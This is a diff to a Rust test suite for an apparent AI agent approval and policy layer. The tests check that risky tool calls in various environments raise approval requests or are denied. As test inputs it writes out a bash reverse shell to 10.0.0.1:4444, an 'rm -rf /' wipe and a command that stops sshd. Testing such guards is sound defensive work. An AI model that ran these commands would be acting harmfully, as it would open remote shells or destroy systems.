@@ -2,6 +2,7 @@
 
 use std::sync::{Arc, Mutex};
 
+use hermes::core::approval_words;
 use hermes::core::call::ToolCall;
 use hermes::core::policy::{Answer, ApprovalRequest};
 use serde_json::{Value, json};
@@ -22,17 +23,22 @@ fn bench(more: &Value) -> Bench {
     Bench::new(&terminal)
 }
 
-/// What was asked, and what came of it.
+/// What was asked about a command, and what came of it.
 fn tried(bench: &Bench, place: &str, command: &str) -> (Vec<String>, String) {
+    called(bench, "terminal", &json!({ "command": command, "environment": place }))
+}
+
+/// The same for any tool: where it would be, and why that is asked.
+fn called(bench: &Bench, tool: &str, arguments: &Value) -> (Vec<String>, String) {
     let asked = Arc::new(Mutex::new(Vec::new()));
     let keep = Arc::clone(&asked);
     let approver = move |request: &ApprovalRequest| {
-        keep.lock().unwrap().push(format!("{:?}", request.effects));
+        let place = approval_words::place(request).unwrap_or_default();
+        keep.lock().unwrap().push(format!("{place}: {}", approval_words::findings(request).join("; ")));
         Answer::Refused { by: "you".to_owned(), why: "no".to_owned() }
     };
     let session = bench.guarded().build().unwrap().session().approver(Arc::new(approver)).open().unwrap();
-    let arguments = json!({ "command": command, "environment": place }).to_string();
-    let body = session.call_blocking(ToolCall::new("terminal", arguments)).body;
+    let body = session.call_blocking(ToolCall::new(tool, arguments.to_string())).body;
     let asked = asked.lock().unwrap().clone();
     (asked, body)
 }
@@ -45,7 +51,7 @@ fn what_is_disposable_asks_less_and_what_is_shared_or_remote_asks_as_this_machin
     for (place, named) in [("default", "local"), ("lab", "lab"), ("open", "open")] {
         let (asked, body) = tried(&bench, place, stop);
         assert_eq!(asked.len(), 1, "{place}: {body}");
-        assert!(asked[0].contains(&format!("environment: \"{named}\"")), "{place}: {}", asked[0]);
+        assert!(asked[0].starts_with(&format!("{named}, in ")), "{place}: {}", asked[0]);
         assert!(body.contains("denied"), "{body}");
     }
     let (asked, body) = tried(&bench, "box", stop);
@@ -53,6 +59,10 @@ fn what_is_disposable_asks_less_and_what_is_shared_or_remote_asks_as_this_machin
     assert!(body.contains("/no/such/docker"), "{body}");
     // What leaves it is asked about there too.
     assert_eq!(tried(&bench, "box", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1").0.len(), 1);
+    // So are files outside of the home there, by the name of the place.
+    let write = json!({ "path": "/srv/www/index.html", "content": "x", "environment": "lab" });
+    let (asked, body) = called(&bench, "write_file", &write);
+    assert!(asked.len() == 1 && asked[0].contains("lab:/srv/www/index.html"), "{asked:?}: {body}");
     // And what is never allowed is not allowed there.
     let (asked, body) = tried(&bench, "lab", "rm -rf / --no-preserve-root");
     assert!(asked.is_empty() && body.contains("denied"), "{body}");
@@ -63,6 +73,21 @@ fn a_container_that_is_given_credential_files_is_no_longer_disposable() {
     let bench = bench(&json!({ "credential_files": ["token.json"] }));
 
     assert_eq!(tried(&bench, "box", "systemctl stop sshd").0.len(), 1);
+}
+
+#[test]
+fn a_skill_that_names_credential_files_makes_places_that_get_them_no_longer_disposable() {
+    let bench = bench(&json!({}));
+    let skill = |front: &str| {
+        bench.write(
+            "home/skills/fly/SKILL.md",
+            &format!("---\nname: fly\ndescription: x\n{front}---\nFly.\n"),
+        );
+        tried(&bench, "box", "systemctl stop sshd").0.len()
+    };
+
+    assert_eq!(skill(""), 0);
+    assert_eq!(skill("required_credential_files: [map.json]\n"), 1);
 }
 
 #[test]
